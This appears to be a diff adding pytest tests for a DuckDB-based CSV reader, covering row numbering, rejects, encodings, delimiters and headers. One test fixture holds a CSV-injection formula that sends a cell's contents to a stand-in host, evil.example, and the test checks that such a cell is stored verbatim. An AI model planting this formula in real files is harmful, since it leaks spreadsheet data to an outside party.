@@ -1,0 +1,160 @@
+"""Delimited text: row numbers, rejects, encodings, delimiters, headers."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import duckdb
+import pytest
+
+from atlas.ingest.readers import Source, open_source
+
+
+def test_ragged_rows_reported_with_physical_lines(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    text = 'a,b,c\n1,2,3\n4,"multi\nline",6\n7,8\n9,10,11,12\n13,14,15\n'
+    source = open_source(write("ragged.csv", text), con=con)
+    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 5), ("ragged-row", 6)]
+    assert source.issues[0].value == "7,8"
+    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("4", 3), ("13", 7)]
+
+
+def test_quoted_newlines_and_blank_lines_keep_row_numbers(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    text = 'id,note\n1,"a\nb\nc"\n\n2,plain\n3,"x\r\ny"\n4,z'
+    source = open_source(write("quoted.csv", text), con=con)
+    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("2", 6), ("3", 7), ("4", 9)]
+    assert rows(source)[0][1] == "a\nb\nc"
+
+
+def test_row_numbers_match_an_id_column(con: duckdb.DuckDBPyConnection, write: Callable[..., Path]) -> None:
+    lines = ["line,v"] + [f"{n},{n * 3}" for n in range(2, 30_002)]
+    source = open_source(write("ids.csv", "\n".join(lines) + "\n"), con=con)
+    bad = source.relation(con).filter("CAST(c_line AS BIGINT) <> _row").count("*").fetchone()
+    assert bad == (0,)
+
+
+def test_huge_field_is_reported_not_fatal(
+    tmp_path: Path, con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]],
+    write: Callable[..., Path]
+) -> None:
+    path = tmp_path / "huge.csv"
+    with path.open("wb") as handle:
+        handle.write(b"id,text\n1,short\n2,")
+        chunk = b"x" * (1 << 20)
+        for _ in range(100):
+            handle.write(chunk)
+        handle.write(b"\n3,fine\n")
+    source = open_source(path, con=con)
+    assert [(i.code, i.row) for i in source.issues] == [("field-too-long", 3)]
+    assert len(source.issues[0].value or "") <= 201
+    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("3", 4)]
+
+
+def test_duplicate_headers_kept_distinct(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    source = open_source(write("dup.csv", "sex,age,sex\nF,3,M\n"), con=con)
+    assert [c.name for c in source.columns] == ["c_sex", "c_age", "c_sex_2"]
+    assert [c.original for c in source.columns] == ["sex", "age", "sex"]
+    assert [i.code for i in source.issues] == ["duplicate-header"]
+    assert rows(source) == [("F", "3", "M", 2)]
+
+
+def test_formula_cells_stay_verbatim(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    text = 'name,link\n"@SUM(1+1)","' + formula.replace('"', '""') + '"\n'
+    source = open_source(write("formula.csv", text), con=con)
+    assert rows(source) == [("@SUM(1+1)", formula, 2)]
+
+
+ENCODED = "name,town\nJosé,Zürich\nŒuvre – “quoted”,Köln\n"
+
+
+@pytest.mark.parametrize(
+    ("encoding", "prefix", "expected"),
+    [
+        ("utf-8", b"", "utf-8"),
+        ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"),
+        ("utf-16-le", b"\xff\xfe", "utf-16-le"),
+        ("utf-16-be", b"\xfe\xff", "utf-16-be"),
+        ("cp1252", b"", "cp1252"),
+    ],
+)
+def test_every_encoding(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path],
+    encoding: str, prefix: bytes, expected: str,
+) -> None:
+    path = write("enc.csv", prefix + ENCODED.encode(encoding))
+    source = open_source(path, con=con)
+    assert source.encoding == expected
+    assert [c.original for c in source.columns] == ["name", "town"]
+    assert rows(source) == [("José", "Zürich", 2), ("Œuvre – “quoted”", "Köln", 3)]
+
+
+def test_latin1_bytes_in_a_utf8_named_file_are_decoded(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    path = write("declared-utf8.csv", "país,año\nPanamá,2015\nMéxico,2016\n".encode("latin-1"))
+    source = open_source(path, con=con)
+    assert source.encoding == "latin-1"
+    assert rows(source) == [("Panamá", "2015", 2), ("México", "2016", 3)]
+
+
+def test_transcoded_ragged_rows(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    path = write("bad.csv", "a,b\né,1\nx\ny,2,3\nz,\"q\nq\"\nw,4\n".encode("latin-1"))
+    source = open_source(path, con=con)
+    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 3), ("ragged-row", 4)]
+    assert [(r[0], r[-1]) for r in rows(source)] == [("é", 2), ("z", 5), ("w", 7)]
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "delimiter"),
+    [
+        ("t.tsv", "a\tb\tc\n1\t2,5\t3\n", "\t"),
+        ("t.csv", "a;b;c\n1;2,5;3\n4;5;6\n", ";"),
+        ("p.csv", "a|b|c\n1|2|3\n", "|"),
+        ("c.csv", "a,b,c\n1,\"2;5\",3\n", ","),
+    ],
+)
+def test_delimiter_sniffing(con: duckdb.DuckDBPyConnection, name: str, text: str,
+                            delimiter: str, write: Callable[..., Path]) -> None:
+    source = open_source(write(name, text), con=con)
+    assert source.delimiter == delimiter
+    assert len(source.columns) == 3
+
+
+def test_kobo_group_headers(con: duckdb.DuckDBPyConnection, write: Callable[..., Path]) -> None:
+    text = "start,group_hh/sex,group_hh/age,g1/name,g2/name\n1,F,3,a,b\n"
+    source = open_source(write("kobo.csv", text), con=con)
+    assert [c.name for c in source.columns] == ["c_start", "c_sex", "c_age", "c_g1_name", "c_g2_name"]
+    assert source.columns[1].original == "group_hh/sex"
+
+
+def test_header_row_forced(
+    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
+) -> None:
+    source = open_source(write("t.csv", "report\n\nx,y\n1,2\n"), header_row=3, con=con)
+    assert [c.original for c in source.columns] == ["x", "y"]
+    assert rows(source) == [("1", "2", 4)]
+
+
+def test_hapi_bom(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
+    source = open_source(shared_data / "migration/iom_dtm/hdx_hapi_idps_global.csv", con=con)
+    assert source.encoding == "utf-8-sig"
+    assert source.columns[0].original == "location_code"
+
+
+@pytest.mark.parametrize("name", [
+    "sdc/sdcmicro_testdata.csv", "sdc/tauargus/cellkey_magnitude/microdata.csv", "sdc/sdcmicro_free1.csv",
+])
+def test_sdc_files(shared_data: Path, con: duckdb.DuckDBPyConnection, name: str) -> None:
+    source = open_source(shared_data / name, con=con)
+    assert source.relation(con).count("*").fetchone()[0] >= 4000  # type: ignore[index]
